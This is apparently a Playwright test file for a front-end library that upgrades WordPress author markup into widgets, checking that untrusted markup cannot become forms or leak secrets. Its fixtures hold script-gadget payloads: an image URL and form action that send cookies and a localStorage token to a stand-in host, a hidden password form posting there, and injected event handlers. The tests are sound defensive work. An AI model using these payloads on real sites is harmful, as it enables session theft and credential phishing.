import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import { jsonScript, usePages } from "../e2e/support.ts";

const pages = usePages();

/** Hosts that the author of the markup, and nobody else, has named. */
const FOREIGN = /elsewhere\.example/;

/** What an author without the right to write scripts may save: text, ids and `data-*` (WordPress: without `unfiltered_html`). */
const GADGET = {
  id: 7,
  label: "",
  meta: { form_action: "https://elsewhere.example/collect" },
  submit_hidden_fields: [{ name: "stolen", type: "local_storage", value: "token" }],
  groups: [
    {
      id: 1,
      label: "",
      meta: {},
      sections: [
        {
          id: 1,
          label: "",
          meta: {},
          fields: [
            {
              id: 1,
              label: "",
              type: "html",
              meta: {
                html_editor:
                  '<img alt="" src="https://elsewhere.example/i?c=#cookie_get(session_like)&amp;l=#local_storage_get(token)">',
              },
            },
            { id: 2, type: "password", label: "Password", meta: {} },
            { id: 3, type: "submit", label: "Read on", meta: {} },
          ],
        },
      ],
    },
  ],
};
const GADGET_TEXT = JSON.stringify(GADGET).replaceAll("&", "&amp;").replaceAll("<", "&lt;");

const SECRETS = `<script>document.cookie = "session_like=SECRET; path=/"; localStorage.setItem("token", "SECRET");</script>`;

/** Opens a page with an author's markup, and gives what left it for foreign hosts. */
async function openAuthored(markup: string, head = "") {
  const sent: string[] = [];
  const { page } = await pages.openMarkup({
    head: `${SECRETS}${head}<script type="module" src="/dist/plaintags.js"></script>`,
    body: `<main>${markup}</main>`,
    prepare: (page) =>
      page.route(FOREIGN, (route) => {
        sent.push(route.request().url());
        return route.abort();
      }),
  });
  return { page, sent };
}

const problemsOf = (page: Page) =>
  page.evaluate(
    () =>
      (window as unknown as { plaintags: { check(): { problems: { message: string }[] } } }).plaintags.check().problems,
  );
const settled = (page: Page, selector: string) =>
  page.locator(`${selector}[state="error"]`).waitFor({ state: "attached" });

for (const [kind, element] of Object.entries({
  "a block": `<div id="def" hidden>${GADGET_TEXT}</div>`,
  "preformatted text": `<pre id="def" hidden>${GADGET_TEXT}</pre>`,
  "a text box": `<textarea id="def" hidden>${GADGET_TEXT}</textarea>`,
  "a template": `<template id="def">${GADGET_TEXT}</template>`,
  "a script of another kind": `<script type="text/plain" id="def">${JSON.stringify(GADGET).replaceAll("<", "\\u003c")}</script>`,
})) {
  test(`a form's definition in ${kind} makes no form, and no secret leaves the page`, async () => {
    const { page, sent } = await openAuthored(
      `<div data-plaintags="wsf-form" data-definition="#def" id="form">My text</div>${element}`,
    );
    await settled(page, "#form");
    assert.equal(await page.locator("#form form, #form input, #form img").count(), 0);
    assert.ok(await page.getByText("My text").isVisible());
    assert.deepEqual(sent, []);
    assert.match(
      (await problemsOf(page)).map(({ message }) => message).join(),
      /found a <\w+ id="def"> where only a <script type="application\/json"> is read/,
    );
  });
}

test("the site's own JSON script is read although an author's element has the same id", async () => {
  const plain = {
    id: 8,
    label: "",
    meta: {},
    groups: [
      {
        id: 1,
        label: "",
        meta: {},
        sections: [{ id: 1, label: "", meta: {}, fields: [{ id: 1, type: "text", label: "Name", meta: {} }] }],
      },
    ],
  };
  const { page, sent } = await openAuthored(
    `<div id="def" hidden>${GADGET_TEXT}</div><wsf-form definition="#def" id="form"></wsf-form>`,
    "",
  );
  await settled(page, "#form");
  await page.evaluate((json) => {
    const script = Object.assign(document.createElement("script"), { type: "application/json", id: "def", text: json });
    document.body.append(script);
    document.querySelector("#form")?.replaceWith(Object.assign(document.createElement("wsf-form"), { id: "form" }));
    document.querySelector("#form")?.setAttribute("definition", "#def");
  }, JSON.stringify(plain));
  await page.getByLabel("Name").waitFor();
  assert.deepEqual(sent, []);
});

test("a tag's options in a block of text are not read", async () => {
  const { page } = await openAuthored(
    `<pre id="options" hidden>{"label":"Pictures of somebody else"}</pre>
     <div data-plaintags="pb-slider" data-config="#options" id="slider"><p>One</p><p>Two</p></div>`,
  );
  await page.locator('#slider[state="idle"]').waitFor();
  assert.equal(await page.getByLabel("Pictures of somebody else").count(), 0);
  assert.match((await problemsOf(page)).map(({ message }) => message).join(), /found a <pre id="options">/);
});

test("options in a JSON script are read, also by plain markup", async () => {
  const { page } = await openAuthored(
    `${jsonScript('id="options"', { label: "Pictures of the house" })}
     <div data-plaintags="pb-slider" data-config="#options" id="slider"><p>One</p><p>Two</p></div>`,
  );
  await page.getByLabel("Pictures of the house").first().waitFor();
});

test("plain markup makes no protected form, which would hold any markup", async () => {
  const form = Buffer.from(
    '<form action="https://elsewhere.example/" method="post"><input type="password" name="pw"></form>',
  ).toString("base64");
  const { page, sent } = await openAuthored(
    `<div data-plaintags="apbct-protected-form" data-encoded="${encodeURIComponent(form)}" id="form">My text</div>
     <div data-plaintags="pb-read-more" id="text">Long text</div>`,
  );
  await page.locator("pb-read-more#text[state]").waitFor();
  assert.equal(await page.locator("apbct-protected-form, #form form, input").count(), 0);
  assert.ok(await page.getByText("My text").isVisible());
  assert.deepEqual(sent, []);
});

test("plain markup brings no handlers and no looks that its author may not write", async () => {
  const { page } = await openAuthored(
    `<div data-plaintags="pb-read-more" data-style="position:fixed;inset:0" data-onclick="window.ran = 1" data-onpointerover="window.ran = 1" id="text">Long text</div>`,
  );
  const tag = page.locator("pb-read-more#text[state]");
  await tag.click();
  assert.equal(await tag.evaluate((element) => getComputedStyle(element).position), "static");
  assert.equal(await page.evaluate(() => "ran" in window), false);
});

test("elements with the names of the form plugin's globals are no data", async () => {
  const { page } = await openAuthored(
    `<a id="wsf_form_json_config" name="data"></a><a id="wsf_form_json" name="1"></a><a id="wsf_form_json" name="1"></a><a id="ws_form_settings"></a>
     <wsf-form form-id="1" id="form"></wsf-form>`,
  );
  await page.locator('#form[state="ready"]').waitFor();
});
